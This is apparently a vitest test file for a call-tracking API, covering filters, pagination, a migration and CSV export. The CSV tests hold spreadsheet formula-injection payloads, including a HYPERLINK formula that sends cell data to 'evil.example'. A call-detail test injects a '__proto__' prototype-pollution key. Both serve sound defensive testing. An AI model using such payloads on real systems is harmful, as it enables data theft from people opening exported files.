import SqliteDatabase from 'better-sqlite3';
import { Kysely, PostgresDialect, SqliteDialect } from 'kysely';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApiKey, createSource } from '../src/admin/credentials.js';
import { createMigrator } from '../src/storage/migrations.js';
import { openStorage } from '../src/storage/open.js';
import { backends, endCall, startCall, startTestApp, type TestApp } from './support/app.js';

/** A small RFC 4180 parser (quoted fields, doubled quotes, CRLF), independent of the code under test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
      if (ch === '"') { quoted = false; i += 1; continue; }
      field += ch; i += 1; continue;
    }
    if (ch === '"' && field === '') { quoted = true; i += 1; continue; }
    if (ch === ',') { row.push(field); field = ''; i += 1; continue; }
    if (ch === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 2; continue; }
    if (ch === '\r' || ch === '\n' || ch === '"') throw new Error(`bare ${JSON.stringify(ch)} at ${i}: not RFC 4180`);
    field += ch; i += 1;
  }
  if (field !== '' || row.length > 0) throw new Error('the last line has no CRLF');
  return rows;
}

const t0 = Date.parse('2026-03-01T10:00:00.000Z');
const minute = 60_000;

/** GET /v1/calls and the list of /v1/calls.csv, with every filter of SPEC "Query API", on both backends. */
describe.each(backends)('call list on $name', (backend) => {
  let t: TestApp;
  let clock = t0;
  let otherSource: { id: string; token: string };
  beforeAll(async () => {
    t = await startTestApp(await backend.freshDb(), {}, { now: () => clock });
    otherSource = await createSource(t.app.storage, 'second', clock);
    const post = async (body: string, url?: string) => {
      const answer = await t.post(body, 'application/json', url);
      expect(answer.status).toBe(200);
    };
    const lead = (extra: Record<string, unknown>) => ({ lead_id: 'L', time_created_iso_string: '2026-03-01T09:59:00.000Z', custom_params: {}, ...extra });
    // f-1 … f-6, one minute apart; the filters below pick known subsets of them.
    clock = t0 + 1 * minute;
    await post(startCall('f-1', { widget_key: 'wA', lead: lead({ lead_phone: '+1 (555) 010-2030' }), called_lead_phone: null }));
    clock = t0 + 2 * minute;
    await post(endCall('f-2', { call_status: 'answered', widget_key: 'wA', agent: { id: 7, name: 'Ann' }, lead: lead({ lead_phone: '999' }), called_lead_phone: '15550102030' }));
    clock = t0 + 3 * minute;
    await post(endCall('f-3', { call_status: 'no_answer', widget_key: 'wB', widget_name: 'Försäljning 100%_off', agent: { id: 8 }, lead: lead({ lead_phone: '+46 70 123 45 67' }), called_lead_phone: null }));
    clock = t0 + 4 * minute;
    await post(endCall('f-4', { call_status: 'answered', widget_key: 'wB', agent: { id: 7 }, lead: lead({ lead_phone: '1-555-010-2030', lead_name: 'Ada Lovelace', lead_email: 'ADA@Example.com' }), called_lead_phone: null }));
    clock = t0 + 5 * minute;
    await post(endCall('f-5', { call_status: 'answered', widget_key: 'wA', agent: { id: 8 }, lead: lead({ lead_phone: '4670' }), called_lead_phone: null }));
    clock = t0 + 6 * minute;
    await post(endCall('f-6', { call_status: 'answered', widget_key: 'wA', agent: { id: 7 }, lead: lead({ lead_phone: '15550102030' }), called_lead_phone: null }),
      `${t.baseUrl}/hooks/convolo/${otherSource.token}`);
  });
  afterAll(() => t.close());

  const ids = async (query: string): Promise<string[]> => {
    const answer = await t.api(`/v1/calls?${query}`);
    expect(answer.status).toBe(200);
    return answer.body.data.map((c: { call_id: string }) => c.call_id);
  };
  const window = `from=${new Date(t0).toISOString()}&to=${new Date(t0 + 10 * minute).toISOString()}`;

  it('lists calls newest first as presented call records, with no cursor after the last page', async () => {
    const answer = await t.api(`/v1/calls?${window}`);
    expect(answer.body.data.map((c: { call_id: string }) => c.call_id)).toEqual(['f-6', 'f-5', 'f-4', 'f-3', 'f-2', 'f-1']);
    expect(answer.body.next_cursor).toBeNull();
    expect(answer.body.data[2]).toMatchObject({ call_id: 'f-4', status: 'answered', first_event_at: new Date(t0 + 4 * minute).toISOString(), agent: { id: 7 } });
    expect(answer.body.data[2]).not.toHaveProperty('lead_phone_digits');
    expect(answer.body.data[2]).not.toHaveProperty('merge_rank');
  });

  it('filters by status, widget_key, agent_id and source_id, alone and combined', async () => {
    expect(await ids(`${window}&status=answered`)).toEqual(['f-6', 'f-5', 'f-4', 'f-2']);
    expect(await ids(`${window}&status=in_progress`)).toEqual(['f-1']);
    expect(await ids(`${window}&widget_key=wB`)).toEqual(['f-4', 'f-3']);
    expect(await ids(`${window}&status=answered&widget_key=wA`)).toEqual(['f-6', 'f-5', 'f-2']);
    expect(await ids(`${window}&agent_id=7`)).toEqual(['f-6', 'f-4', 'f-2']);
    expect(await ids(`${window}&agent_id=7&widget_key=wA&status=answered`)).toEqual(['f-6', 'f-2']);
    expect(await ids(`source_id=${otherSource.id}`)).toEqual(['f-6']);
    expect(await ids(`${window}&source_id=src_nobody`)).toEqual([]);
    expect(await ids(`${window}&status=nothing`)).toEqual([]);
  });

  it('matches phone by digits on the lead phone and the called number, whatever the formatting', async () => {
    const us = ['f-6', 'f-4', 'f-2', 'f-1'];
    expect(await ids(`phone=${encodeURIComponent('+1 (555) 010-2030')}`)).toEqual(us);
    expect(await ids('phone=15550102030')).toEqual(us);
    expect(await ids(`phone=${encodeURIComponent('+46 70-123 45 67')}`)).toEqual(['f-3']);
    // Exact digits, not a substring: 4670 is f-5's whole number and only the start of f-3's.
    expect(await ids('phone=4670')).toEqual(['f-5']);
    expect(await ids(`phone=15550102030&status=answered`)).toEqual(['f-6', 'f-4', 'f-2']);
    expect(await ids(`phone=15550102030&status=in_progress`)).toEqual(['f-1']);
    expect((await t.api('/v1/calls?phone=abc')).body).toMatchObject({ error: 'invalid_request' });
  });

  it('filters by from (inclusive) and to (exclusive) on first_event_at', async () => {
    const at = (m: number) => encodeURIComponent(new Date(t0 + m * minute).toISOString());
    expect(await ids(`from=${at(2)}&to=${at(4)}`)).toEqual(['f-3', 'f-2']);
    expect(await ids(`from=${at(5)}`)).toEqual(['f-6', 'f-5']);
    expect(await ids(`to=${at(2)}`)).toEqual(['f-1']);
    expect(await ids(`from=${at(1)}&to=${at(6)}&status=answered&widget_key=wA`)).toEqual(['f-5', 'f-2']);
    expect((await t.api('/v1/calls?from=yesterday')).body).toMatchObject({ error: 'invalid_request' });
  });

  it('searches q case-insensitively in call_id, widget_name, lead name, email and phone digits, wildcards literal', async () => {
    expect(await ids(`${window}&q=ada`)).toEqual(['f-4']);
    expect(await ids(`${window}&q=${encodeURIComponent('example.COM')}`)).toEqual(['f-4']);
    expect(await ids(`${window}&q=F-3`)).toEqual(['f-3']);
    expect(await ids(`${window}&q=${encodeURIComponent('100%_off')}`)).toEqual(['f-3']);
    expect(await ids(`${window}&q=${encodeURIComponent('%')}`)).toEqual(['f-3']);
    expect(await ids(`${window}&q=_`)).toEqual(['f-3']);
    expect(await ids(`${window}&q=${encodeURIComponent('70 123')}`)).toEqual(['f-3']);
    expect(await ids(`${window}&q=${encodeURIComponent('försälj')}`)).toEqual(['f-3']);
    expect(await ids(`${window}&q=zzz`)).toEqual([]);
    // The lead's JSON text is searched first: its key names and punctuation are not values.
    expect(await ids(`${window}&q=lead_name`)).toEqual([]);
    expect(await ids(`${window}&q=${encodeURIComponent('"ada')}`)).toEqual([]);
    expect(await ids(`${window}&q=${encodeURIComponent('ada"')}`)).toEqual([]);
  });

  it('bounds limit to 1…500 and refuses a forged cursor, with the error format', async () => {
    for (const bad of ['0', '501', '-1', 'ten']) {
      const answer = await t.api(`/v1/calls?limit=${bad}`);
      expect(answer).toMatchObject({ status: 400, body: { error: 'invalid_request' } });
    }
    expect((await t.api('/v1/calls?limit=500')).status).toBe(200);
    expect((await t.api('/v1/calls?limit=1')).body.data).toHaveLength(1);
    expect((await t.api('/v1/calls?cursor=bm9wZQ')).body).toMatchObject({ error: 'invalid_request' });
  });

  it('answers 401 without a key or with an unknown one, and serves a read key', async () => {
    expect((await t.api('/v1/calls', null)).status).toBe(401);
    expect((await t.api('/v1/calls.csv', null)).body).toMatchObject({ error: 'unauthorized' });
    expect((await t.api('/v1/calls', `sbk_${'x'.repeat(43)}`)).status).toBe(401);
    const { key } = await createApiKey(t.app.storage, 'reader', 'read', clock);
    expect((await t.api(`/v1/calls?${window}`, key)).body.data).toHaveLength(6);
    expect((await t.api(`/v1/calls.csv?${window}`, key)).status).toBe(200);
  });

  it.each([
    { filter: 'widget_key=pages&', label: 'filtered', offset: 60 },
    { filter: '', label: 'unfiltered', offset: 90 },
  ])('pages through 120 calls 25 at a time while 30 new calls arrive ($label): each call exactly once', async ({ filter, label, offset }) => {
    clock = t0 + offset * minute;
    const base = clock;
    // Three calls per millisecond: page boundaries fall between calls with the same first_event_at.
    for (let i = 0; i < 120; i += 3) {
      clock = base + i;
      const answers = await Promise.all([0, 1, 2].map((k) => t.post(startCall(`${label}-p-${String(i + k).padStart(3, '0')}`, { widget_key: 'pages' }))));
      for (const a of answers) expect(a.status).toBe(200);
    }
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    let fresh = 0;
    do {
      const answer = await t.api(`/v1/calls?${filter}limit=25${cursor ? `&cursor=${cursor}` : ''}`);
      expect(answer.status).toBe(200);
      expect(answer.body.data.length).toBeLessThanOrEqual(25);
      seen.push(...answer.body.data.map((c: { call_id: string }) => c.call_id));
      cursor = answer.body.next_cursor;
      pages += 1;
      if (cursor && fresh < 30) {
        clock += 1;
        await Promise.all(Array.from({ length: Math.min(8, 30 - fresh) }, () => t.post(startCall(`${label}-n-${fresh++}`, { widget_key: 'pages' }))));
      }
    } while (cursor);
    expect(fresh).toBe(30);
    expect(pages).toBeGreaterThanOrEqual(5);
    expect(new Set(seen).size).toBe(seen.length);
    expect(seen.filter((id) => id.startsWith(`${label}-p-`)).sort()).toEqual(Array.from({ length: 120 }, (_, i) => `${label}-p-${String(i).padStart(3, '0')}`));
    expect(seen.some((id) => id.startsWith(`${label}-n-`))).toBe(false);
    // The new calls are newer than the first page: a fresh listing starts with them.
    expect((await ids(`${filter}limit=30`)).every((id) => id.startsWith(`${label}-n-`))).toBe(true);
  });

  describe('CSV export', () => {
    const hostile = {
      widget_name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      lead: {
        lead_id: '+1',
        lead_phone: '-2',
        source: '@SUM(1+1)',
        site_path: 'a,"quoted",\r\nnext line',
        referer: '\t=1',
        country: 'SE;=1+1',
        time_created_iso_string: '2026-03-01T09:00:00.000Z',
        custom_params: { utm: '=HYPERLINK("http://evil")', plus: '+1', minus: '-2', at: '@SUM(A1:A9)', text: 'x,"y"\nz' },
      },
    };

    const fetchCsv = async (query: string) => {
      const response = await fetch(`${t.baseUrl}/v1/calls.csv?${query}`, { headers: { authorization: `Bearer ${t.adminKey}` } });
      expect(response.status).toBe(200);
      return { response, bytes: Buffer.from(await response.arrayBuffer()) };
    };

    it('streams a UTF-8 attachment with a BOM, a header row and one row per listed call', async () => {
      const { response, bytes } = await fetchCsv(`${window}&status=answered`);
      expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
      expect(response.headers.get('content-disposition')).toBe('attachment; filename="calls.csv"');
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const rows = parseCsv(bytes.toString('utf8').slice(1));
      const header = rows[0]!;
      expect(header.slice(0, 3)).toEqual(['call_id', 'source_id', 'status']);
      expect(header).toContain('lead_custom_params');
      const list = (await t.api(`/v1/calls?${window}&status=answered`)).body.data;
      expect(rows.slice(1).map((r) => r[0])).toEqual(list.map((c: { call_id: string }) => c.call_id));
      const col = (name: string) => header.indexOf(name);
      const f4 = rows.find((r) => r[0] === 'f-4')!;
      expect(f4[col('agent_id')]).toBe('7');
      expect(f4[col('first_event_at')]).toBe(new Date(t0 + 4 * minute).toISOString());
      expect(f4[col('lead_phone')]).toBe('1-555-010-2030');
    });

    it('has as many rows as the list has calls, across several export pages (over 500 calls)', async () => {
      clock = t0 + 120 * minute;
      for (let i = 0; i < 520; i += 40) {
        clock += 1;
        await Promise.all(Array.from({ length: Math.min(40, 520 - i) }, (_, k) => t.post(endCall(`bulk-${i + k}`, { widget_key: 'bulk' }))));
      }
      const { bytes } = await fetchCsv('');
      const rows = parseCsv(bytes.toString('utf8').slice(1)).slice(1);
      const listed: string[] = [];
      let cursor: string | null = null;
      do {
        const answer = await t.api(`/v1/calls?limit=500${cursor ? `&cursor=${cursor}` : ''}`);
        listed.push(...answer.body.data.map((c: { call_id: string }) => c.call_id));
        cursor = answer.body.next_cursor;
      } while (cursor);
      expect(listed.length).toBeGreaterThan(650);
      expect(rows.map((r) => r[0])).toEqual(listed);
      expect(rows.filter((r) => r[0]!.startsWith('bulk-'))).toHaveLength(520);
    });

    it('escapes quotes, commas and newlines and defuses formulas, hostile custom params included', async () => {
      clock = t0 + 200 * minute;
      expect((await t.post(endCall('evil-1', { ...hostile, widget_key: 'evil' }))).status).toBe(200);
      const { bytes } = await fetchCsv('widget_key=evil');
      const [header, row, ...rest] = parseCsv(bytes.toString('utf8').slice(1));
      expect(rest).toEqual([]);
      const cell = (name: string) => row![header!.indexOf(name)]!;
      expect(cell('widget_name')).toBe(`'${hostile.widget_name}`);
      expect(cell('lead_id')).toBe("'+1");
      expect(cell('lead_phone')).toBe("'-2");
      expect(cell('lead_source')).toBe("'@SUM(1+1)");
      expect(cell('lead_site_path')).toBe(hostile.lead.site_path);
      expect(cell('lead_referer')).toBe(`'${hostile.lead.referer}`);
      // Quoted (Excel in a semicolon locale splits on `;`) and defused (its second fragment is a formula).
      expect(bytes.toString('utf8')).toContain(`"'SE;=1+1"`);
      expect(cell('lead_country')).toBe("'SE;=1+1");
      // One JSON column: it starts with `{`, never a formula, and gives the params back exactly.
      expect(cell('lead_custom_params').startsWith('{')).toBe(true);
      expect(JSON.parse(cell('lead_custom_params'))).toEqual(hostile.lead.custom_params);
      // No text cell of the file starts a formula (a number such as a negative speed_to_lead_sec is a number).
      for (const value of row!) if (!/^-?\d+(\.\d+)?$/.test(value)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
      // Numbers we write ourselves are not text: they stay numbers.
      expect(cell('talk_duration_sec')).toMatch(/^\d+(\.\d+)?$/);
    });

    it('applies the same filters as the list, phone and q included', async () => {
      for (const query of ['phone=15550102030', `${window}&q=ada`, `${window}&agent_id=7&widget_key=wA`]) {
        const { bytes } = await fetchCsv(query);
        const rows = parseCsv(bytes.toString('utf8').slice(1)).slice(1);
        expect(rows.map((r) => r[0])).toEqual(await ids(query));
      }
      const empty = parseCsv((await fetchCsv('status=nothing')).bytes.toString('utf8').slice(1));
      expect(empty).toHaveLength(1);
      expect((await t.api('/v1/calls.csv?phone=x')).body).toMatchObject({ error: 'invalid_request' });
    });
  });
});

describe.each(backends)('migration 0003_call_queries on $name', (backend) => {
  it('fills the phone digits of calls stored before it, so phone= finds them', async () => {
    const url = await backend.freshDb();
    const db = new Kysely<any>({
      dialect: backend.name === 'sqlite'
        ? new SqliteDialect({ database: new SqliteDatabase(url.slice('sqlite:'.length)) })
        : new PostgresDialect({ pool: new pg.Pool({ connectionString: url, max: 1 }) }),
    });
    const { error } = await createMigrator(db, backend.name).migrateTo('0002_relay');
    expect(error).toBeUndefined();
    const row = (callId: string, lead: unknown, called: string | null) => ({
      source_id: 'src_old', call_id: callId, status: 'answered', lead: lead === null ? null : JSON.stringify(lead), called_lead_phone: called,
      first_event_at: t0, last_event_at: t0, event_count: 1, merge_rank: 2,
    });
    await db.insertInto('calls').values([
      row('old-1', { lead_phone: '+1 (555) 010-2030' }, null),
      row('old-2', null, '1 555 010 2030'),
      row('old-3', { lead_phone: 'unknown' }, null),
    ]).execute();
    await db.destroy();

    const storage = await openStorage(url);
    try {
      expect(await storage.migrate()).toContain('0003_call_queries');
      const found = await storage.callQueries.list({ phoneDigits: '15550102030' }, null, 10);
      expect(found.map((c) => c.call_id).sort()).toEqual(['old-1', 'old-2']);
      expect(found[0]).not.toHaveProperty('lead_phone_digits');
    } finally {
      await storage.close();
    }
  });
});

describe.each(backends)('call detail on $name', (backend) => {
  it('keeps a lead key named __proto__ through the merge and shows it as Convolo sent it, polluting nothing', async () => {
    const t = await startTestApp(await backend.freshDb());
    try {
      const withProto = (body: string) => body.replace(/"lead": *\{/, '"lead":{"__proto__":{"polluted":"yes"},');
      expect((await t.post(startCall('proto-1'))).status).toBe(200);
      expect((await t.post(withProto(endCall('proto-1')))).status).toBe(200);
      for (const path of ['/v1/calls/proto-1', '/v1/calls']) {
        const response = await fetch(`${t.baseUrl}${path}`, { headers: { authorization: `Bearer ${t.adminKey}` } });
        expect(response.status).toBe(200);
        expect(await response.text(), path).toContain('"__proto__":{"polluted":"yes"}');
      }
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    } finally {
      await t.close();
    }
  });

  it("shows the asked source's call and timeline when two sources share a call_id, else the latest", async () => {
    let clock = Date.parse('2026-03-01T10:00:00Z');
    const t = await startTestApp(await backend.freshDb(), {}, { now: () => clock });
    try {
      const other = await createSource(t.app.storage, 'second', clock);
      expect((await t.post(startCall('shared', { widget_key: 'wMain' }))).status).toBe(200);
      clock += 60_000;
      expect((await t.post(endCall('shared', { widget_key: 'wOther' }), 'application/json', `${t.baseUrl}/hooks/convolo/${other.token}`)).status).toBe(200);
      const fromOther = await t.api(`/v1/calls/shared?source_id=${other.id}`);
      expect(fromOther.status).toBe(200);
      expect(fromOther.body).toMatchObject({ source_id: other.id, widget_key: 'wOther', status: 'answered', deliveries: [] });
      expect(fromOther.body.events.map((e: { type: string; source_id: string }) => [e.type, e.source_id])).toEqual([['end_call', other.id]]);
      const mainSource = (await t.api('/v1/sources')).body.data.find((s: { id: string }) => s.id !== other.id).id;
      const fromMain = await t.api(`/v1/calls/shared?source_id=${mainSource}`);
      expect(fromMain.body).toMatchObject({ source_id: mainSource, widget_key: 'wMain', status: 'in_progress' });
      expect(fromMain.body.events.map((e: { type: string }) => e.type)).toEqual(['start_call']);
      expect((await t.api('/v1/calls/shared')).body).toMatchObject({ source_id: other.id, events: [{ type: 'end_call' }] });
      expect((await t.api('/v1/calls/shared?source_id=src_nobody')).status).toBe(404);
    } finally {
      await t.close();
    }
  });
});
